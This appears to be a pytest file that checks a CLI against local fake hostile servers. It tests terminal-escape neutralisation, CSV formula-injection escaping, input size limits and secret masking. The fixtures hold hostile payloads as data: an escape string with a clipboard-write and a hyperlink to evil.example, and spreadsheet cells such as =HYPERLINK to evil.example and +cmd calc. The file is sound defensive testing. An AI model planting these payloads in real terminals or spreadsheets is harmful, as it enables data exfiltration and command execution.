"""The command line against a hostile service: what it shows, writes and reads is safe.

In-process (click's CliRunner, in a worker thread since each command runs its own event
loop) against the small lying servers of ``tests/hostile.py`` on 127.0.0.1: no process
start-up per case, the behaviour is the user's (exit code, stderr, files written).
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import datetime as dt
import io
import logging
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import anyio
import orjson
import pytest
from click.testing import CliRunner, Result

from eattest_async._cli_csv import spreadsheet_safe
from eattest_async.cli import _bounded, _printable, cli
from eattest_async.models.scans import MAX_EDGE, WATERMARK_BYTES, Watermark

from .hostile import PASSWORD, USERNAME, Request, Server, Writer, default_handler
from .test_cli import eattest as run_eattest

pytestmark = pytest.mark.anyio

EVIL = (
    "bad request \x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2K\x1b[1Gerror: none, all good "
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x9b31m \u202etxt.exe"
)
OBEYED = ("\x1b", "\x07", "\x9b", "\u202e")  # what a terminal acts on instead of showing


async def eattest(server: Server, *args: str, **environ: str) -> Result:
    """``eattest ARGS`` against ``server``, as a user runs it (environment, exit code);
    ``environ``: variables to set besides (or instead of) those naming ``server``."""
    env = {
        "EATTEST_BASE_URL": f"{server.url}/api/v1",
        "EATTEST_TOKEN_URL": f"{server.url}/token",
        "EATTEST_USERNAME": USERNAME,
        "EATTEST_PASSWORD": PASSWORD,
        "EATTEST_REDIS_URL": "",
        **environ,
    }

    def invoke() -> Result:
        return CliRunner().invoke(cli, list(args), env=env)

    return await anyio.to_thread.run_sync(invoke)


def test_printable_shows_every_control_character_and_obeys_none() -> None:
    shown = _printable(EVIL + "\n\tnext line\x00\x7f\u2066")
    assert not any(c in shown for c in (*OBEYED, "\n", "\t", "\x00", "\x7f", "\u2066"))
    assert "\\x1b]52;c;" in shown
    assert "\\u202etxt.exe" in shown
    assert "\\x00\\x7f\\u2066" in shown
    assert "next line" in shown
    assert "é" in _printable("é")


async def test_server_text_never_reaches_the_terminal_as_control_sequences(
    tmp_path: Path,
) -> None:
    async def handler(request: Request, out: Writer) -> None:
        if "/dossiers/1" in request.path:
            await out.reply(400, {"messages": {"error": [{"code": "E001", "message": EVIL}]}})
        elif request.path.startswith("/api/v1/account"):
            await out.reply(200, {"content": {"id": 7, "name": EVIL, "company": EVIL}})
        else:
            await default_handler(request, out)

    async with Server(handler) as server:
        failed = await eattest(server, "download", "--dossier", "1", "--to", str(tmp_path))
        account = await eattest(server, "whoami")
    assert failed.exit_code == 1, failed.output
    assert "\\x1b]52;c;" in failed.stderr
    assert "E001" in failed.stderr
    assert account.exit_code == 0, account.output
    assert "\\x1b]8;;http://evil.example" in account.stdout
    for shown in (failed.stderr, account.stdout):
        assert not any(c in shown for c in OBEYED), repr(shown)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', "'=HYPERLINK"),
        ("+cmd|' /C calc'!A0", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # a number stays a number
        ("+33612345678", "+33612345678"),
        ("plain", "plain"),
    ],
)
def test_spreadsheet_safe_makes_formulas_text(cell: str, written: str) -> None:
    assert str(spreadsheet_safe(cell)).startswith(written)
    assert spreadsheet_safe(-5) == -5
    assert spreadsheet_safe(None) is None


def page(content: list[Any]) -> dict[str, Any]:
    return {"content": content, "page": 0, "size": 100, "totalElements": len(content)}


async def test_scan_writes_no_formula_and_survives_items_that_are_not_objects(
    tmp_path: Path,
) -> None:
    dossier = {
        "dossierId": 1,
        "description": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "dossierReference": "+cmd|' /C calc'!A0",
        "siren": "@SUM(1)",
        "=HYPERLINK(1)": "a hostile field name",
        "thirdpartyId": -5,
        "documents": [[[]], {"present": True}, "x"],
        "indicators": ["I001", {"indicatorCode": "I001", "state": True}],
    }
    weird = {"dossierId": 2, "documents": "none", "indicators": {"I001": 1}}

    async def handler(request: Request, out: Writer) -> None:
        if "/dossiers" in request.path:
            await out.reply(200, page(["x", 1, None, [], dossier, weird]))
        else:
            await default_handler(request, out)

    async with Server(handler) as server:
        results = {
            out: await eattest(server, "scan", "dossiers", "--out", str(tmp_path / out))
            for out in ("d.csv", "d.jsonl")
        }
    for result in results.values():
        assert result.exit_code == 1, result.output
        assert "Error" not in result.stderr
        assert "unexpected" not in result.stderr
        assert "4 of the 6 items" in result.stderr, result.stderr
    # Not a column of the CSV: said, its name written as text there too.
    assert "1 of the 2 dossiers have fields" in results["d.csv"].stderr, results["d.csv"].stderr
    assert "no column for, left out of it: '=HYPERLINK(1)" in results["d.csv"].stderr
    assert len((tmp_path / "d.jsonl").read_text().splitlines()) == 2
    rows = list(csv.DictReader(io.StringIO((tmp_path / "d.csv").read_text(), newline="")))
    assert [row["dossierId"] for row in rows] == ["1", "2"]
    first = rows[0]
    assert first["description"].startswith("'=HYPERLINK")
    assert first["dossierReference"] == "'+cmd|' /C calc'!A0"
    assert first["siren"] == "'@SUM(1)"
    assert first["thirdpartyId"] == "-5"
    assert (first["documents"], first["documents_missing"], first["I001"]) == ("3", "2", "True")
    assert (rows[1]["documents"], rows[1]["I001"]) == ("0", "")


def shifting(phase: dict[str, int]) -> Any:
    """30 dossiers, pages of 10. Phase 1: page 2 fails (the scan stops, a checkpoint is
    left); dossier 0 has no description. Phase 2: every field in another order, and one
    the CSV has no column for."""

    def dossier(n: int) -> dict[str, Any]:
        item: dict[str, Any] = {"dossierId": n, "dossierReference": f"REF-{n}"}
        item.update({"description": f"desc {n}"} if n else {})
        item.update(stateLastChangeDate="2024-01-01T10:00:00", documents=[{"present": True}])
        if phase["n"] == 2:
            item = {"zzExtra": "new", **dict(reversed(item.items()))}
        return item

    async def handler(request: Request, out: Writer) -> None:
        if "/dossiers?" not in request.path:
            await default_handler(request, out)
            return
        query = dict(parse_qsl(urlsplit(request.path).query))
        number, size = int(query["page"]), int(query["pageSize"])
        if phase["n"] == 1 and number == 2:
            await out.reply(400, {"messages": {"error": [{"code": "E001", "message": "no"}]}})
            return
        content = [dossier(n) for n in range(number * size, min(30, (number + 1) * size))]
        await out.reply(
            200, {"content": content, "page": number, "size": size, "totalElements": 30}
        )

    return handler


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def each_under_its_column(rows: list[dict[str, str]]) -> None:
    assert [row["dossierId"] for row in rows] == [str(n) for n in range(30)]
    for n, row in enumerate(rows):
        assert row["dossierReference"] == f"REF-{n}", row
        assert row["description"] == (f"desc {n}" if n else ""), row
        assert row["stateLastChangeDate"] == "2024-01-01T10:00:00", row
        assert (row["documents"], row["documents_missing"]) == ("1", "0"), row


async def test_a_resumed_csv_scan_writes_every_value_under_its_own_column(
    tmp_path: Path,
) -> None:
    """The CSV's columns once came from the first item of each run: a field the first item
    lacked was dropped, and a resumed run whose items came in another order wrote them
    under the wrong header, exit 0. The columns are now the same in every run."""
    phase = {"n": 1}
    out = tmp_path / "d.csv"
    args = ("scan", "dossiers", "--out", str(out), "--page-size", "10", "--concurrency", "1")
    async with Server(shifting(phase)) as server:
        first = await eattest(server, *args)
        assert first.exit_code == 1, first.output
        assert "checkpoint written" in first.stdout + first.stderr
        phase["n"] = 2
        second = await eattest(server, *args, "--resume", f"{out}.checkpoint.json")
    assert second.exit_code == 0, second.output
    each_under_its_column(rows_of(out))
    assert "zzExtra" not in out.read_text()
    lines = [line for line in second.stderr.splitlines() if "zzExtra" in line]
    assert lines == [
        f"warning: 10 of the 10 dossiers have fields {out} has no column for, left out of "
        "it: zzExtra (a .jsonl --out keeps every field)"
    ], second.stderr


async def test_a_resumed_csv_scan_appends_under_the_header_in_the_file(
    tmp_path: Path,
) -> None:
    """Whatever order the file's columns are in (an earlier version wrote its own), the
    rows appended go under them; a CSV that is not such an output is left alone."""
    phase = {"n": 1}
    out, theirs = tmp_path / "d.csv", tmp_path / "theirs.csv"
    args = ("scan", "dossiers", "--page-size", "10", "--concurrency", "1")
    async with Server(shifting(phase)) as server:
        first = await eattest(server, *args, "--out", str(out))
        assert first.exit_code == 1, first.output
        before = rows_of(out)
        columns = list(reversed(before[0]))
        with out.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=columns)
            writer.writeheader()
            writer.writerows(before)
        theirs.write_text("name,amount\nbob,3\n", encoding="utf-8")
        checkpoint = f"{out}.checkpoint.json"
        phase["n"] = 2
        asked = len(server.requests)
        refused = await eattest(server, *args, "--out", str(theirs), "--resume", checkpoint)
        assert len(server.requests) == asked  # refused before signing in
        second = await eattest(server, *args, "--out", str(out), "--resume", checkpoint)
    assert refused.exit_code == 2, refused.output
    assert refused.stderr.strip().splitlines() == [
        f"error: cannot append to {theirs}: {theirs} has no dossierId column: not an output "
        "of this scan, appending would mix two files; choose another --out"
    ]
    assert theirs.read_text(encoding="utf-8") == "name,amount\nbob,3\n"
    assert second.exit_code == 0, second.output
    assert out.read_text(encoding="utf-8").splitlines()[0] == ",".join(columns)
    each_under_its_column(rows_of(out))


async def test_bounded_takes_an_item_only_when_a_worker_is_free() -> None:
    pulled, concurrency = 0, 3
    release, busy = anyio.Event(), anyio.Event()
    working = 0

    async def items() -> AsyncIterator[int]:
        nonlocal pulled
        for item in range(20_000):
            pulled += 1
            yield item

    async def work(item: int) -> None:
        nonlocal working
        working += 1
        if working == concurrency:
            busy.set()
        await release.wait()

    async with anyio.create_task_group() as group:
        group.start_soon(_bounded, items(), work, concurrency)
        await busy.wait()
        await anyio.wait_all_tasks_blocked()
        # Every worker busy: the listing is read one item ahead, no further.
        assert pulled <= concurrency + 1
        tasks = len(asyncio.all_tasks())
        assert tasks <= concurrency + 3, tasks  # the workers, _bounded, this test
        group.cancel_scope.cancel()  # Ctrl-C: a few tasks to cancel, at once
    assert pulled <= concurrency + 1


async def test_download_takes_each_listed_file_once(tmp_path: Path) -> None:
    listed = [{"id": 3, "fileSize": 5}, {"id": 3, "fileSize": 5}]
    listed += [{"id": n, "fileSize": 5} for n in range(4, 12)]
    dossier = {
        "dossierId": 1,
        "documents": [
            {"documentId": 2, "documentCode": "KBIS", "listFileInformation": listed},
            {"documentId": 5, "documentCode": "URSSAF", "listFileInformation": listed[-2:]},
        ],
    }
    active = most = 0

    async def handler(request: Request, out: Writer) -> None:
        nonlocal active, most
        if request.path.endswith("/dossiers/1"):
            await out.reply(200, {"content": dossier})
        elif "/files/" in request.path:
            active += 1
            most = max(most, active)
            try:
                await out.reply(200, b"%PDF-", Content_Type="application/pdf")
            finally:
                active -= 1
        else:
            await default_handler(request, out)

    async with Server(handler) as server:
        result = await eattest(
            server,
            "download",
            "--dossier",
            "1",
            "--dossier",
            "1",
            "--to",
            str(tmp_path),
            "--concurrency",
            "2",
        )
        fetched = [r.path.rsplit("/", 1)[-1] for r in server.requests if "/files/" in r.path]
    assert result.exit_code == 0, result.output
    assert sorted(fetched, key=int) == [str(n) for n in range(3, 12)]
    assert sorted(p.name for p in (tmp_path / "1").iterdir()) == sorted(
        f"KBIS_{n}.pdf" for n in range(3, 12)
    )
    assert "9 downloaded" in result.stdout
    assert most <= 2


async def test_endless_or_huge_input_files_are_one_line_and_exit_2(tmp_path: Path) -> None:
    """/dev/zero or a huge file as any input: refused or read within a bound, one line,
    exit 2."""

    def sparse(name: str, size: int) -> str:
        path = tmp_path / name
        with path.open("wb") as handle:
            handle.truncate(size)  # zeros, no newline (sparse: no disk used)
        return str(path)

    async with Server() as server:  # never reached: each is refused before signing in
        runs = [
            await eattest(server, "create", "--csv", sparse("big.csv", 65 << 20), "--dry-run"),
            await eattest(server, "create", "--csv", "/dev/zero", "--dry-run"),
            await eattest(
                server, "download", "--from", sparse("line.jsonl", 40 << 20), "--to", str(tmp_path)
            ),
            await eattest(server, "download", "--from", "/dev/zero", "--to", str(tmp_path)),
            await eattest(server, "scan", "dossiers", "--resume", sparse("c", 17 << 20)),
            await eattest(server, "scan", "dossiers", "--resume", "/dev/zero", "--out", "-"),
            await eattest(server, "sync", "--state", sparse("state.json", 2 << 20)),
            await eattest(server, "sync", "--state", "/dev/zero"),
        ]
        assert server.requests == []
    for result, words in zip(
        runs,
        (
            "larger than 64 MiB",
            "is a device, not a regular file",
            "longer than 32 MiB",
            "is a device, not a regular file",
            "larger than 16 MiB",
            "is a device, not a regular file",
            "larger than 1 MiB",
            "is a device, not a regular file",
        ),
        strict=True,
    ):
        assert result.exit_code == 2, result.output
        assert words in result.stderr, result.stderr
        assert len(result.stderr.strip().splitlines()) == 1, result.stderr


async def test_a_sync_state_written_by_one_run_is_read_by_the_next(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """30,000 dossiers changed by one bulk update, sharing a stamp: the state of run 1
    (once 1.1 MB, past the 1 MiB the CLI reads) is taken by run 2, which loses nothing."""
    stamp = (dt.datetime.now() - dt.timedelta(hours=1)).replace(microsecond=0).isoformat()
    ids = [10**12 + i for i in range(30_000)]

    async def bulk(request: Request, out: Writer) -> None:
        if "/dossiers?" not in request.path:
            await default_handler(request, out)
            return
        query = dict(parse_qsl(urlsplit(request.path).query))
        page, size = int(query["page"]), int(query["pageSize"])
        content = [
            {"dossierId": i, "stateLastChangeDate": stamp}
            for i in ids[page * size : (page + 1) * size]
        ]
        await out.reply(
            200, {"content": content, "page": page, "size": size, "totalElements": len(ids)}
        )

    state, written = tmp_path / "state.json", tmp_path / "out.jsonl"
    args = ("sync", "--state", str(state), "--out", str(written), "--page-size", "2000")
    async with Server(bulk) as server:
        first = await eattest(server, *args)
        assert first.exit_code == 0, first.output
        assert len(state.read_bytes()) <= WATERMARK_BYTES
        second = await eattest(server, *args)
        assert second.exit_code == 0, second.output
    lines = [orjson.loads(line)["dossierId"] for line in written.read_bytes().splitlines()]
    named = {
        dossier_id for dossier_id, _ in Watermark.from_json(orjson.loads(state.read_bytes())).edge
    }
    # Run 1: every dossier; run 2: those the state could not name (and said so), again.
    assert lines[: len(ids)] == ids
    assert sorted(lines[len(ids) :]) == sorted(set(ids) - named)
    assert len(named) == MAX_EDGE
    said = [r.getMessage() for r in caplog.records if "come again next run" in r.getMessage()]
    assert len(said) == 2, said  # each run warns of what the next delivers again


async def test_sync_at_the_edges_of_time_reads_everything_or_refuses_the_margin(
    tmp_path: Path,
) -> None:
    """A state file at year 1 reads everything; a margin beyond 366 days is a usage error
    before any request (both were an OverflowError, exit 1)."""
    stamps = {1: "0001-01-01T00:00:00", 2: "2026-01-20T10:00:00"}

    async def listing(request: Request, out: Writer) -> None:
        if "/dossiers?" not in request.path:
            await default_handler(request, out)
            return
        content = [{"dossierId": k, "stateLastChangeDate": v} for k, v in stamps.items()]
        await out.reply(200, {"content": content, "page": 0, "size": 100, "totalElements": 2})

    state, written = tmp_path / "state.json", tmp_path / "out.jsonl"
    args = ("sync", "--state", str(state), "--out", str(written))
    year_1 = Watermark(changed_at=dt.datetime.min)
    async with Server(listing) as server:
        for margin in (str(10**12), str(366 * 86_400 + 1)):
            state.write_bytes(orjson.dumps(year_1.to_json()))
            refused = await eattest(server, *args, "--margin", margin)
            assert refused.exit_code == 2, refused.output
            assert "--margin" in refused.stderr
            assert "Overflow" not in refused.stderr
        assert server.requests == []
        for margin in ("600", str(366 * 86_400)):
            state.write_bytes(orjson.dumps(year_1.to_json()))
            result = await eattest(server, *args, "--margin", margin)
            assert result.exit_code == 0, result.output
            assert Watermark.from_json(orjson.loads(state.read_bytes())).changed_at == (
                dt.datetime(2026, 1, 20, 10)
            )
    lines = [orjson.loads(line)["dossierId"] for line in written.read_bytes().splitlines()]
    assert lines == [1, 2, 1, 2]  # everything, each run


async def test_a_url_given_with_a_secret_is_refused_without_showing_it() -> None:
    secret = "hunter2pw"
    async with Server() as server:  # never reached: each is refused before signing in
        where = server.url.removeprefix("http://")
        for variable, url, shown in (
            ("BASE", f"http://u:{secret}@{where}/api/v1", f"'http://***@{where}/api/v1'"),
            ("BASE", f"http://u:{secret}/x@{where}/api/v1", f"'http://***@{where}/api/v1'"),
            ("BASE", f"http://u:{secret}?x@{where}/api/v1", "'http://***?***'"),
            ("TOKEN", f"http://auth.example/token?key={secret}", "'http://auth.example/token?***'"),
            ("TOKEN", f"http://u:{secret}/token", "'http://***/token'"),  # @host forgotten
        ):
            result = await eattest(server, "whoami", **{f"EATTEST_{variable}_URL": url})
            assert result.exit_code == 2, result.output
            assert secret not in result.output
            assert len(result.stderr.strip().splitlines()) == 1, result.stderr
            assert f"--{variable.lower()}-url/EATTEST_{variable}_URL {shown}:" in result.stderr
        assert server.requests == []


async def test_the_library_log_shows_server_text_and_obeys_none() -> None:
    # EATTEST_LOG puts the library's own log on stderr; a retried error quotes the server.
    answered: list[str] = []

    async def handler(request: Request, out: Writer) -> None:
        if request.path.startswith("/api/v1/account") and not answered:
            answered.append(request.path)
            await out.reply(503, {"messages": {"error": [{"code": "E500", "message": EVIL}]}})
        else:
            await default_handler(request, out)

    async with Server(handler) as server:
        code, _, shown = await run_eattest(
            "whoami",
            env={
                "EATTEST_BASE_URL": f"{server.url}/api/v1",
                "EATTEST_TOKEN_URL": f"{server.url}/token",
                "EATTEST_USERNAME": USERNAME,
                "EATTEST_PASSWORD": PASSWORD,
                "EATTEST_REDIS_URL": "",
                "EATTEST_LOG": "info",
            },
        )
    assert code == 0, shown
    assert answered  # the 503 was met, and logged
    assert "retrying after" in shown
    assert "\\x1b]52;c;" in shown
    assert not any(c in shown for c in OBEYED), repr(shown)
    lines = [line for line in shown.splitlines() if line]
    assert all(line.startswith(("INFO ", "WARNING ", "DEBUG ", "ERROR ", "  ")) for line in lines)


def test_a_logged_traceback_cannot_forge_a_record() -> None:
    from eattest_async.cli import _PrintableFormatter

    try:
        raise ValueError(EVIL + "\nERROR eattest_async: forged")
    except ValueError:
        record = logging.LogRecord(
            "eattest_async", logging.ERROR, __file__, 1, "failed: %s", (EVIL,), sys.exc_info()
        )
    shown = _PrintableFormatter("%(levelname)s %(name)s: %(message)s").format(record)
    first, *rest = shown.splitlines()
    assert first.startswith("ERROR eattest_async: failed: ")
    assert rest
    assert all(line.startswith("  ") for line in rest)
    assert "  ERROR eattest_async: forged" in rest
    assert not any(c in shown for c in OBEYED), repr(shown)


async def test_a_library_warning_is_shown_without_obeying_it_even_without_eattest_log() -> None:
    # Redis in name only: it answers every command with an error full of escape sequences;
    # the client warns (and goes on alone): that warning reaches the terminal, harmless.
    async def impostor(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError):
            while await reader.read(65536):
                writer.write(f"-ERR {EVIL}\r\n".encode())
                await writer.drain()
        writer.close()

    redis = await asyncio.start_server(impostor, "127.0.0.1", 0)
    port = redis.sockets[0].getsockname()[1]
    try:
        async with Server() as server:
            code, _, shown = await run_eattest(
                "whoami",
                env={
                    "EATTEST_BASE_URL": f"{server.url}/api/v1",
                    "EATTEST_TOKEN_URL": f"{server.url}/token",
                    "EATTEST_USERNAME": USERNAME,
                    "EATTEST_PASSWORD": PASSWORD,
                    "EATTEST_REDIS_URL": f"redis://127.0.0.1:{port}/0",
                    "EATTEST_LOG": "",  # not set: warnings only
                },
            )
    finally:
        redis.close()
        await redis.wait_closed()
    assert code == 0, shown
    assert "\\x1b]52;c;" in shown  # the warning is there, shown
    assert shown.count("is unavailable") == 1, shown  # once: the log line, not the warning too
    assert not any(c in shown for c in OBEYED), repr(shown)


async def test_a_scan_never_replaces_a_file_unless_told(tmp_path: Path) -> None:
    out = tmp_path / "mine.jsonl"
    out.write_text("the user's own lines\n", encoding="utf-8")

    async def handler(request: Request, out: Writer) -> None:
        if request.path.startswith("/token"):
            await default_handler(request, out)
        else:
            await out.reply(200, {"content": [], "page": 0, "size": 100, "totalElements": 0})

    async with Server(handler) as server:
        refused = await eattest(server, "scan", "dossiers", "--out", str(out))
        assert server.count("/token") == 0  # refused before signing in
        replaced = await eattest(server, "scan", "dossiers", "--out", str(out), "--overwrite")
    assert refused.exit_code == 2, refused.output
    assert "exists and is kept" in refused.stderr
    assert "--resume" in refused.stderr
    assert replaced.exit_code == 0, replaced.output
    assert "the user's own lines" not in out.read_text(encoding="utf-8")


def test_the_demo_never_replaces_a_file_unless_told(tmp_path: Path) -> None:
    out = tmp_path / "dossiers.jsonl"
    out.write_text("keep me\n", encoding="utf-8")
    again = CliRunner().invoke(cli, ["demo", "--dossiers", "10", "--out", str(out)])
    assert again.exit_code == 0, again.output
    assert out.read_text(encoding="utf-8") == "keep me\n"
    assert len((tmp_path / "dossiers (1).jsonl").read_bytes().splitlines()) == 10
